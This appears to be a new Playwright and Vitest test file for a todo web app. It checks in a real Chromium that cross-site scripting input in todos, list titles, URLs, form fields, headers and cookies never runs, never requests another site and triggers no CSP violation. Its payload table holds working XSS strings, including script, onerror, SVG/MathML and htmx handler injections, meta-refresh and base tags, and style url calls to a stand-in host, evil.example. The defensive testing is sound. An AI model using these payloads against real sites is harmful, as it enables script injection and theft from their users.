@@ -1,0 +1,429 @@
+// Cross-site scripting through every field and parameter that reaches a page, seen in a real Chromium: nothing runs, nothing is
+// asked of another site, nothing even tries (no CSP violation), and what was typed is what is read.
+import { mkdtempSync, rmSync } from "node:fs"
+import { createServer } from "node:http"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
+import type { Browser, BrowserContext, Page } from "playwright-core"
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest"
+import { makeClient } from "../http/client.ts"
+import { type Process, startProcess } from "../http/server.ts"
+import { launch, mayBeLeftOut } from "./chromium.ts"
+
+/** Each sets `__xss`, opens a dialog, or asks another site for something, when it is taken for more than text. */
+const payloads = {
+  "a script": "<script>window.__xss=1</script>",
+  "a script of another site": '<script src="https://evil.example/x.js"></script>',
+  "an image's error": '<img src="x" onerror="window.__xss=1">',
+  "an image of another site": "<img src=https://evil.example/x.png>",
+  "SVG's load": "<svg/onload=window.__xss=1>",
+  "SVG in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
+  "a javascript: address": "javascript:window.__xss=1",
+  "a link to one": '<a href="javascript:window.__xss=1" autofocus onfocus="window.__xss=1">x</a>',
+  "a double quote": '" autofocus onfocus="window.__xss=1" x="',
+  "a single quote": "' autofocus onfocus='window.__xss=1' x='",
+  "the end of an attribute and its tag": '"><img src=x onerror=alert(1)>',
+  "the end of a comment": "--><script>alert(1)</script><!--",
+  "the end of a template": "</template><script>window.__xss=1</script>{{window.__xss=1}}",
+  "the end of the title": "</title><script>window.__xss=1</script>",
+  "the end of a textarea": "</textarea></select></style></noscript><script>window.__xss=1</script>",
+  "UTF-7": "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
+  "htmx's own handlers":
+    '<div hx-on:load="window.__xss=1" hx-on::load="window.__xss=1" hx-get="https://evil.example/" hx-trigger="load">x</div>',
+  "htmx's partials": '<hx-partial hx-target="body" hx-swap="innerHTML"><img src=x onerror=window.__xss=1></hx-partial>',
+  "an event stream of another": '<div hx-sse:connect="https://evil.example/feed" hx-trigger="load"></div>',
+  "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  "a base": '<base href="https://evil.example/">',
+  "a style": "<style>*{background:url(https://evil.example/x)}</style>",
+  "a style's attribute": '<p style="background:url(https://evil.example/x);width:expression(window.__xss=1)">x</p>',
+  "a frame": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+  "a form of another": '<form action="https://evil.example/"><button autofocus>Save</button></form>',
+  "line separators": "x\u2028window.__xss=1\u2029//\u202e\u0085",
+  entities: "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;img src=x onerror=window.__xss=1&#62;",
+  "an event stream's frame": "x\ndata: <img src=x onerror=window.__xss=1>\nevent: ping"
+}
+const all = Object.values(payloads)
+/** For what is not repeated on any page: each way out of where it could stand. */
+const some = [
+  payloads["a script"],
+  payloads["an image's error"],
+  payloads["a javascript: address"],
+  payloads["a single quote"],
+  payloads["the end of an attribute and its tag"],
+  payloads["the end of the title"],
+  payloads["htmx's own handlers"]
+]
+/** What a header can hold. */
+const isHeader = (text: string) => /^[\x20-\x7e]*$/.test(text)
+/** As a todo: HTML's inputs hold no line breaks. */
+const texts = all.map((text) => text.replace(/\n/g, " "))
+
+describe.skipIf(mayBeLeftOut)("cross-site scripting in Chromium", { timeout: 120_000 }, () => {
+  let browser: Browser
+  let server: Process
+  const directory = mkdtempSync(join(tmpdir(), "evenstar-"))
+  beforeAll(async () => {
+    browser = await launch()
+    server = await startProcess(directory, {
+      COMMAND_RATE_LIMIT: "0",
+      SESSION_RATE_LIMIT: "0",
+      SIGN_IN_RATE_LIMIT: "0"
+    })
+  })
+  afterAll(async () => {
+    await browser.close()
+    await server.stop("SIGTERM")
+    rmSync(directory, { recursive: true })
+  })
+
+  /** A window that notes what must not happen on any of its pages: `found` takes it all. */
+  const watched = async (own = server.url) => {
+    const context = await browser.newContext()
+    const found: Array<string> = []
+    await context.exposeFunction("__report", (what: string) => void found.push(what))
+    await context.addInitScript(`
+      Object.defineProperty(window, "__xss", { set() { __report("a script ran") }, get() {} })
+      document.addEventListener("securitypolicyviolation", (event) =>
+        __report("a violation of " + event.effectiveDirective + " by " + event.blockedURI))
+    `)
+    // Nothing leaves the machine: who asks another site is noted, and gets nothing.
+    await context.route(
+      (url) => url.origin !== own && /^(https?|wss?):/.test(url.protocol),
+      (route) => {
+        found.push(`a request to ${route.request().url()}`)
+        return route.abort()
+      }
+    )
+    const page = await context.newPage()
+    page.on("dialog", (dialog) => {
+      found.push(`a dialog: ${dialog.message()}`)
+      return dialog.dismiss()
+    })
+    page.on("console", (message) => {
+      if (/Content.Security.Policy|Refused to/i.test(message.text())) found.push(message.text())
+    })
+    page.on("pageerror", (error) => found.push(error.message))
+    onTestFinished(() => context.close())
+    return { context, page, found }
+  }
+  const enter = (context: BrowserContext, cookie = "") => {
+    const [name = "", value = ""] = cookie.split("=")
+    return context.addCookies([{ name, value, url: server.url }])
+  }
+  /** Whoever's page this is: nothing of a payload has become an element or an attribute. */
+  const strange = (page: Page) =>
+    page
+      .locator(
+        'main :is(script, img, svg, math, iframe, style, meta, base, template, hx-partial, [style], [onerror], [onfocus], [hx-on\\:load], [hx-get], [autofocus], [href^="javascript:" i], [href*="evil"], [src*="evil"], [action*="evil"])'
+      )
+      .count()
+  /** The page has had its chance: two frames are painted, and what was queued has run. */
+  const settle = (page: Page) =>
+    page.evaluate(
+      () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))
+    )
+  const isLive = (page: Page) => page.locator('#connection[data-state="live"]').waitFor()
+  const isClean = async (page: Page, found: ReadonlyArray<string>) => {
+    await settle(page)
+    expect(await page.evaluate("window.__xss")).toBeUndefined()
+    expect([page.url(), await strange(page), found]).toEqual([page.url(), 0, []])
+  }
+  const shown = (page: Page) => page.locator("#todos .text").allTextContents()
+
+  describe("the controls: what is not escaped is noticed", () => {
+    const serve = async (csp: string | undefined, body: string) => {
+      const own = createServer((_, response) => {
+        if (csp !== undefined) response.setHeader("content-security-policy", csp)
+        response.setHeader("content-type", "text/html; charset=utf-8")
+        response.end(`<!doctype html><title>x</title><main>${body}</main>`)
+      })
+      await new Promise<void>((resolve) => own.listen(0, "127.0.0.1", resolve))
+      onTestFinished(() => void own.close())
+      const address = own.address()
+      return `http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`
+    }
+    const finds = async (csp: string | undefined, body: string, expected: RegExp) => {
+      const url = await serve(csp, body)
+      const { found, page } = await watched(url)
+      await page.goto(url)
+      await expect.poll(() => found.join("\n")).toMatch(expected)
+    }
+    it.each([
+      ["a script", /a script ran/],
+      ["an image's error", /a script ran/],
+      ["SVG's load", /a script ran/],
+      ["the end of an attribute and its tag", /a dialog: 1/],
+      ["a script of another site", /a request to https:\/\/evil\.example\/x\.js/],
+      ["an image of another site", /a request to https:\/\/evil\.example\/x\.png/],
+      ["a refresh", /a request to https:\/\/evil\.example\//],
+      ["a style", /a request to https:\/\/evil\.example\/x/]
+    ] as const)("%s", (name, expected) => finds(undefined, payloads[name], expected))
+    it("a violation of the policy", async () => {
+      const response = await fetch(server.url)
+      const csp = response.headers.get("content-security-policy") ?? ""
+      await finds(csp, payloads["a script"], /a violation of script-src-elem by inline/)
+      await finds(csp, payloads["an image of another site"], /a violation of img-src by https:\/\/evil/)
+      await finds(csp, payloads["a base"], /a violation of base-uri/)
+      await finds(csp, payloads["a style's attribute"], /a violation of style-src-attr/)
+    })
+  })
+
+  it("todos that are added, as the feed brings them and as the page comes, and then renamed", async () => {
+    const { found, page } = await watched()
+    await page.goto(server.url)
+    await page.fill("#text", "first")
+    await page.press("#text", "Enter")
+    await page.waitForURL(/\/lists\//)
+    await isLive(page)
+    for (const [at, text] of texts.entries()) {
+      await page.fill("#text", text)
+      await page.press("#text", "Enter")
+      await expect.poll(async () => (await shown(page)).length).toBe(at + 2)
+    }
+    expect(await shown(page)).toEqual(["first", ...texts])
+    await isClean(page, found)
+
+    await page.reload()
+    await isLive(page)
+    expect(await shown(page)).toEqual(["first", ...texts])
+    const named = page.locator("#todos .check")
+    expect(await named.evaluateAll((buttons) => buttons.map((it) => it.getAttribute("aria-label")))).toEqual(
+      ["first", ...texts].map((text) => `Completed: ${text}`)
+    )
+    expect(await page.locator("details input").evaluateAll((all) => all.map((it) => it.getAttribute("value")))).toEqual(
+      ["first", ...texts]
+    )
+    await isClean(page, found)
+
+    const path = new URL(page.url()).pathname
+    const { todos } = await (await fetch(`${server.url}/api${path}`)).json()
+    for (const [at, text] of texts.toReversed().entries()) {
+      const [first] = todos
+      await fetch(`${server.url}/api${path}/todos/${first.todoId}`, {
+        method: "PATCH",
+        headers: { "content-type": "application/json" },
+        body: JSON.stringify({ text: `${at} ${text}` })
+      })
+      await expect.poll(async () => (await shown(page))[0]).toBe(`${at} ${text}`)
+    }
+    // And in an open field, by hand.
+    await page.locator("summary").nth(1).click()
+    await page.locator("details[open] input").fill(payloads["a double quote"])
+    await page.locator("details[open] button").click()
+    await expect.poll(async () => (await shown(page))[1]).toBe(payloads["a double quote"].trim())
+    await isClean(page, found)
+    for (const filter of ["active", "completed"]) {
+      await page.goto(`${server.url}${path}?filter=${filter}`)
+      await isLive(page)
+      await isClean(page, found)
+    }
+  })
+
+  it("a list's title, in its page's and on the start page", async () => {
+    const { context, found, page } = await watched()
+    const who = makeClient(server.url)
+    for (const text of texts) {
+      const path = await who.newList(text)
+      await enter(context, who.cookie())
+      await page.goto(`${server.url}${path}`)
+      await isLive(page)
+      expect(await page.evaluate(() => document.querySelector("title")?.textContent)).toBe(`${text.trim()} · Evenstar`)
+      await isClean(page, found)
+    }
+    const titles = async () => {
+      await page.goto(server.url)
+      return page.locator(".lists .text").allTextContents()
+    }
+    await expect.poll(async () => (await titles()).toSorted()).toEqual(texts.map((text) => text.trim()).toSorted())
+    await isClean(page, found)
+  })
+
+  it("what stands in an address: filters, ids of lists and todos, names of files, pages that aren't there", async () => {
+    const { found, page } = await watched()
+    const path = await makeClient(server.url).newList()
+    for (const payload of some) {
+      const text = encodeURIComponent(payload)
+      const addresses = [
+        `${path}?filter=${text}`,
+        `/?${text}=${text}#${text}`,
+        `/lists/${text}`,
+        `/lists/${text}/feed`,
+        `/static/${text}`,
+        `/account/${text}?error=${text}`,
+        `/${text}`,
+        `/api/lists/${text}`,
+        `/api/${text}`
+      ]
+      for (const address of addresses) {
+        await page.goto(`${server.url}${address}`)
+        await isClean(page, found)
+      }
+    }
+    // Chromium encodes what it sends; a request can hold these as they are, and the answer never repeats them.
+    for (const address of [`${path}?filter="><script>`, '/lists/"><script>', "/static/'><script>"]) {
+      expect(await (await fetch(`${server.url}${address}`)).text()).not.toMatch(/><script>/)
+    }
+  })
+
+  /** Sends a form from a page of ours, as whoever has found a way to make a visitor do so: the answer is shown as a page. */
+  const submit = async (page: Page, action: string, fields: Record<string, string>) => {
+    const answered = page.waitForResponse((response) => response.request().method() === "POST")
+    const loaded = page.waitForEvent("load")
+    await page.evaluate(
+      ([to, entries]) => {
+        const form = document.createElement("form")
+        form.method = "post"
+        form.action = to
+        for (const [name, value] of entries) {
+          const input = document.createElement("textarea")
+          input.name = name
+          input.value = value
+          form.append(input)
+        }
+        document.body.append(form)
+        form.submit()
+      },
+      [action, Object.entries(fields)] as const
+    )
+    await loaded
+    return (await answered).status()
+  }
+  /** As a message shows what it has got. */
+  const quoted = (text: string) => JSON.stringify(text).slice(1, -1)
+
+  it("what a refused form says, as a page", async () => {
+    const { context, found, page } = await watched()
+    const who = makeClient(server.url)
+    const path = await who.newList()
+    await enter(context, who.cookie())
+    await page.goto(server.url)
+    for (const payload of all) {
+      expect(await submit(page, `${path}/access`, { access: payload })).toBe(400)
+      // A form's line breaks are CRLF.
+      expect(await page.textContent("main")).toContain(quoted(payload.replace(/\n/g, "\r\n")))
+      await isClean(page, found)
+    }
+    for (const payload of some) {
+      const long = payload.padEnd(501, "x")
+      const id = encodeURIComponent(payload)
+      const tries: ReadonlyArray<readonly [string, Record<string, string>]> = [
+        [`${path}/todos`, { text: long }],
+        [`${path}/todos`, { text: "x", idempotencyKey: `${payload} ` }],
+        ["/lists", { text: long, idempotencyKey: payload }],
+        [`${path}/todos/${id}/rename`, { text: "x" }],
+        [`/account/sessions/${id}/revoke`, {}]
+      ]
+      for (const [action, fields] of tries) {
+        const status = await submit(page, action, fields)
+        expect([action, status >= 400 && status < 500]).toEqual([action, true])
+        await isClean(page, found)
+      }
+    }
+  })
+
+  it("what a refused form says in the live region of the page", async () => {
+    const { context, found, page } = await watched()
+    const who = makeClient(server.url)
+    const path = await who.newList()
+    await enter(context, who.cookie())
+    await page.goto(`${server.url}${path}`)
+    await isLive(page)
+    for (const text of texts) {
+      await page.locator("#error").evaluate((region) => region.replaceChildren())
+      await page.locator('[name="completed"]').evaluate((field, value) => field.setAttribute("value", value), text)
+      await page.getByRole("button", { name: "Complete all" }).click()
+      await expect.poll(() => page.textContent("#error")).toContain(quoted(text))
+      expect(await page.locator("#error *").count()).toBe(1)
+      await isClean(page, found)
+    }
+    await page
+      .locator('[name="idempotencyKey"]')
+      .evaluate((field) => field.setAttribute("value", '"><img src=x onerror=alert(1)>'))
+    await page.fill("#text", "x")
+    await page.press("#text", "Enter")
+    await expect.poll(() => page.textContent("#error")).toContain("Idempotency-Key")
+    await isClean(page, found)
+  })
+
+  it("a User-Agent on the account page", async () => {
+    const { context, found, page } = await watched()
+    for (const payload of all.filter(isHeader)) {
+      const headers = { "user-agent": payload }
+      const who = makeClient(server.url)
+      const call = async (path: string, json: unknown) =>
+        JSON.parse((await who.request("POST", `/api/account/${path}`, { json, headers })).text)
+      await call("passkeys", who.authenticator.create(await call("passkeys/options", {})))
+      await enter(context, who.cookie())
+      await page.goto(`${server.url}/account`)
+      for (const rows of ["#sessions", "#passkeys"]) {
+        expect(await page.locator(`${rows} strong`).getAttribute("title")).toBe(payload.trim())
+      }
+      await isClean(page, found)
+    }
+  })
+
+  it("what the JSON API says, opened as a page", async () => {
+    const { found, page } = await watched()
+    const path = await makeClient(server.url).newList()
+    const list = `${server.url}/api${path}`
+    for (const payload of all) {
+      const refused = { method: "PATCH", url: list, json: { access: payload, [payload]: 1 } }
+      const others = [
+        { method: "POST", url: `${list}/todos`, json: { text: payload } },
+        { method: "POST", url: `${server.url}/api/account/sign-in`, json: { type: payload, response: payload } },
+        { method: "GET", url: list, json: undefined },
+        { method: "GET", url: `${server.url}/events?after=${encodeURIComponent(payload)}`, json: undefined }
+      ]
+      const tries = some.includes(payload) ? [refused, ...others] : [refused]
+      for (const { json, method, url } of tries) {
+        // The real answer, with its own headers, under an address that can be opened.
+        await page.route("**/probe", async (route) =>
+          route.fulfill({
+            response: await route.fetch({
+              url,
+              method,
+              ...(json === undefined
+                ? {}
+                : { headers: { "content-type": "application/json" }, postData: JSON.stringify(json) })
+            })
+          })
+        )
+        await page.goto(`${server.url}/probe`)
+        await settle(page)
+        await page.unroute("**/probe")
+        expect([url, found]).toEqual([url, []])
+      }
+    }
+    // The detail does repeat it; what keeps it text is its type, which no browser may doubt.
+    const refused = await fetch(`${list}/todos`, {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({ text: 1, "<script>window.__xss=1</script>": 1 })
+    })
+    expect(await refused.text()).toContain("<script>")
+    expect([refused.headers.get("content-type"), refused.headers.get("x-content-type-options")]).toEqual([
+      "application/problem+json",
+      "nosniff"
+    ])
+  })
+
+  it("cookies and other headers", async () => {
+    const { context, found, page } = await watched()
+    const path = await makeClient(server.url).newList()
+    for (const payload of some) {
+      await context.setExtraHTTPHeaders({
+        cookie: `session=${payload}; theme=${payload}`,
+        "x-forwarded-host": payload,
+        "x-forwarded-for": payload,
+        "accept-language": payload,
+        "hx-current-url": payload,
+        "last-event-id": payload
+      })
+      for (const address of ["/", path, "/account", "/nothing", `/api${path}`]) {
+        await page.goto(`${server.url}${address}`)
+        expect(await page.content()).not.toContain("__xss")
+        await isClean(page, found)
+      }
+    }
+  })
+})
